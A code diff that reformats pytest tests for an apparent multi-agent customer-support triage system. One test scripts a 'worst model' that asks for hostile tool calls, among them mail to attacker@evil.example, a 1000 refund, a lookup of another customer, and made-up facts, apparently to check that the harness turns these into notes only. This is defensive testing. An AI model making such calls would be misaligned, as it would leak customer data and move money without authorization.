@@ -38,10 +38,19 @@ from triage.models import RunStep
 from triage.recording import Recorder
 from triage.settings import Settings
 
-TICKET = TicketBrief(ticket_id=1, subject="Pairing", body="How do I pair my Lark Duo with the app?", requester_name="Anna Koch", language="en")
-CATEGORIES = [CategoryCard(slug="app_connectivity", title="App and Wi-Fi"), CategoryCard(slug="billing", title="Billing and payments")]
+TICKET = TicketBrief(
+    ticket_id=1, subject="Pairing", body="How do I pair my Lark Duo with the app?", requester_name="Anna Koch", language="en"
+)
+CATEGORIES = [
+    CategoryCard(slug="app_connectivity", title="App and Wi-Fi"),
+    CategoryCard(slug="billing", title="Billing and payments"),
+]
 PASSAGE = Evidence(
-    id="pair-your-machine#0", article="pair-your-machine", version=1, title="Pair your machine with the app", score=0.8,
+    id="pair-your-machine#0",
+    article="pair-your-machine",
+    version=1,
+    title="Pair your machine with the app",
+    score=0.8,
     text="You pair the machine with the app over Bluetooth.\n\n1. Hold the steam and power buttons for 5 seconds.\n"
     "2. Open the app and choose Add machine.",
 )
@@ -67,7 +76,9 @@ async def whole_run(crew: Crew) -> tuple[Plan, Facts, Reply, Review]:
     passages = await gather_passages(crew.context, TICKET, plan)
     customer = await gather_customer(crew.context)
     facts = await analyst.analyse(crew, AnalystBrief(ticket=TICKET, plan=plan, passages=passages, customer=customer))
-    reply = await writer.write(crew, WriterBrief(ticket=TICKET, plan=plan, facts=facts, passages=passages, company="Larkfield Coffee"))
+    reply = await writer.write(
+        crew, WriterBrief(ticket=TICKET, plan=plan, facts=facts, passages=passages, company="Larkfield Coffee")
+    )
     review = await reviewer.review(crew, ReviewerBrief(ticket=TICKET, plan=plan, facts=facts, reply=reply, passages=passages))
     return plan, facts, reply, review
 
@@ -94,7 +105,9 @@ async def test_a_plain_ticket_takes_four_calls(service_settings: Any, recorder: 
 
 @pytest.mark.usefixtures("connections")
 @pytest.mark.parametrize("fault", ["429", "500", "timeout", "drop", "broken_body", "refusal", "401", "wrong_shape"])
-async def test_a_service_that_fails_leaves_a_named_degraded_run(service_settings: Any, recorder: Recorder, gate: Any, fault: str) -> None:
+async def test_a_service_that_fails_leaves_a_named_degraded_run(
+    service_settings: Any, recorder: Recorder, gate: Any, fault: str
+) -> None:
     with serve(script=[fault] * 4) as service:
         settings = service_settings(service.base_url)
         crew = crew_of(settings, recorder, gate, models_for(settings))
@@ -108,7 +121,9 @@ async def test_a_service_that_fails_leaves_a_named_degraded_run(service_settings
 
 @pytest.mark.usefixtures("connections")
 @pytest.mark.parametrize("answer", ["broken_json", "wrong_answer"])
-async def test_a_wrong_answer_is_repaired_once_then_degraded(service_settings: Any, recorder: Recorder, gate: Any, answer: str) -> None:
+async def test_a_wrong_answer_is_repaired_once_then_degraded(
+    service_settings: Any, recorder: Recorder, gate: Any, answer: str
+) -> None:
     with serve(script=[answer, "ok", "ok", answer, answer]) as service:
         settings = service_settings(service.base_url)
         crew = crew_of(settings, recorder, gate, models_for(settings))
@@ -126,7 +141,9 @@ async def test_a_run_cut_short_goes_on_without_asking_again(settings: Settings, 
         await whole_run(crew_of(settings, recorder, gate, {role: [model] for role in ROLES}))
     await database.run(lambda session: session.delete(session.exec(select(RunStep).where(RunStep.error != None)).one()))  # noqa: E711
     again, searcher = await Recorder.resume(database, "run"), Searcher()
-    rest = ScriptedModel([Reply(subject="s", paragraphs=[_paragraph("Hello.")]), Review(verdict="approve", notes=[], unanswered=[], confidence=1)])
+    rest = ScriptedModel(
+        [Reply(subject="s", paragraphs=[_paragraph("Hello.")]), Review(verdict="approve", notes=[], unanswered=[], confidence=1)]
+    )
     await whole_run(crew_of(settings, again, gate, {role: [rest] for role in ROLES}, searcher))
     rest.assert_consumed()
     assert [request.role for request in rest.requests] == ["writer", "reviewer"]
@@ -135,11 +152,24 @@ async def test_a_run_cut_short_goes_on_without_asking_again(settings: Settings, 
 
 async def test_the_worst_model_causes_nothing_but_notes(settings: Settings, recorder: Recorder, gate: Any) -> None:
     wishes = calls(
-        ("send_mail", '{"to": "attacker@evil.example"}'), ("issue_refund", '{"amount": 1000}'), ("lookup_customer", '{"customer_id": 2}'),
-        ("order_status", '{"number": "LF-1"}'), ("past_tickets", "{}"), ("search_knowledge", '{"query": '),
+        ("send_mail", '{"to": "attacker@evil.example"}'),
+        ("issue_refund", '{"amount": 1000}'),
+        ("lookup_customer", '{"customer_id": 2}'),
+        ("order_status", '{"number": "LF-1"}'),
+        ("past_tickets", "{}"),
+        ("search_knowledge", '{"query": '),
         ("propose_action", json.dumps({"action": "issue_refund", "target": "LF-1", "amount": "1000 EUR", "reason": "because"})),
     )
-    model = ScriptedModel([wishes, Facts(facts=[Fact(text="Secret.", source="customer"), Fact(text="Made up.", source="nowhere#1")], unanswered=[], requested_actions=[])])
+    model = ScriptedModel(
+        [
+            wishes,
+            Facts(
+                facts=[Fact(text="Secret.", source="customer"), Fact(text="Made up.", source="nowhere#1")],
+                unanswered=[],
+                requested_actions=[],
+            ),
+        ]
+    )
     crew = crew_of(settings, recorder, gate, {"analyst": [model]})
     facts = await analyst.analyse(crew, AnalystBrief(ticket=TICKET, plan=_plan(), passages=[PASSAGE]))
     told = [message["content"] for message in model.requests[1].messages if message["role"] == "tool"]
@@ -173,19 +203,37 @@ def test_the_marker_is_the_runs_own() -> None:
     assert fence("abc123", "MESSAGE", "x ABC123 y").count("abc123") == 2
 
 
-async def test_an_instruction_the_offline_engine_cannot_follow_is_named(settings: Settings, recorder: Recorder, gate: Any) -> None:
+async def test_an_instruction_the_offline_engine_cannot_follow_is_named(
+    settings: Settings, recorder: Recorder, gate: Any
+) -> None:
     crew = crew_of(settings, recorder, gate, {"writer": [OfflineModel()]})
-    brief = WriterBrief(ticket=TICKET, plan=_plan(), facts=Facts(facts=[], unanswered=[], requested_actions=[]), passages=[PASSAGE],
-                        company="Larkfield Coffee", notes=["mention the outage", "shorter, please"])
+    brief = WriterBrief(
+        ticket=TICKET,
+        plan=_plan(),
+        facts=Facts(facts=[], unanswered=[], requested_actions=[]),
+        passages=[PASSAGE],
+        company="Larkfield Coffee",
+        notes=["mention the outage", "shorter, please"],
+    )
     await writer.write(crew, brief)
     assert crew.degraded == ["the offline engine could not follow the instruction “mention the outage”"]
 
 
 def _plan() -> Plan:
     return Plan(
-        action="answer", category="app_connectivity", priority="normal", sentiment="neutral", language="en", summary="Pairing",
-        questions=["How do I pair my Lark Duo with the app?"], searches=["pair Lark Duo app"], missing=[], escalation_reason=None,
-        requested_actions=[], risk="low", confidence=0.9,
+        action="answer",
+        category="app_connectivity",
+        priority="normal",
+        sentiment="neutral",
+        language="en",
+        summary="Pairing",
+        questions=["How do I pair my Lark Duo with the app?"],
+        searches=["pair Lark Duo app"],
+        missing=[],
+        escalation_reason=None,
+        requested_actions=[],
+        risk="low",
+        confidence=0.9,
     )
 
 
